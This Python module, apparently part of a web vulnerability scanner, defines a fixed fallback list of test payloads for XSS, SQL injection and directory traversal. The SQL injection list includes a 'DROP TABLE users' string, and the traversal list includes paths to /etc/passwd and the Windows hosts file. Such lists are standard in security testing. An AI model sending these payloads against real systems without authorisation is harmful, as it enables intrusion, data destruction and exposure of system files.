"""
정적 페이로드 목록

생성형 페이로드를 사용하지 않거나 생성에 실패했을 때 항상 사용 가능한 기본 목록.
클래스별 목록은 비어 있지 않아야 한다.
"""

from typing import Dict, List, Tuple

from xploitra.scanner.interfaces import VulnerabilityType

STATIC_PAYLOADS: Dict[VulnerabilityType, Tuple[str, ...]] = {
    VulnerabilityType.XSS: (
        '<script>alert("XSS")</script>',
        '"><script>alert("XSS")</script>',
        'javascript:alert("XSS")',
        '<img src=x onerror=alert("XSS")>',
        '<svg onload=alert("XSS")>',
    ),
    VulnerabilityType.SQLI: (
        "' OR '1'='1",
        "' UNION SELECT 1,2,3--",
        "'; DROP TABLE users; --",
        "' OR 1=1 LIMIT 1 --",
        "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0 AND '1'='1",
    ),
    VulnerabilityType.DIRECTORY_TRAVERSAL: (
        "../../../etc/passwd",
        "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
        "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    ),
}


def get_static_payloads(vuln_type: VulnerabilityType) -> List[str]:
    return list(STATIC_PAYLOADS[VulnerabilityType(vuln_type)])


class StaticPayloadSource:
    """대상과 무관하게 고정 목록을 돌려주는 PayloadSource"""

    def generate(self, vuln_type: VulnerabilityType, target: str) -> List[str]:
        return get_static_payloads(vuln_type)


__all__ = ["STATIC_PAYLOADS", "StaticPayloadSource", "get_static_payloads"]
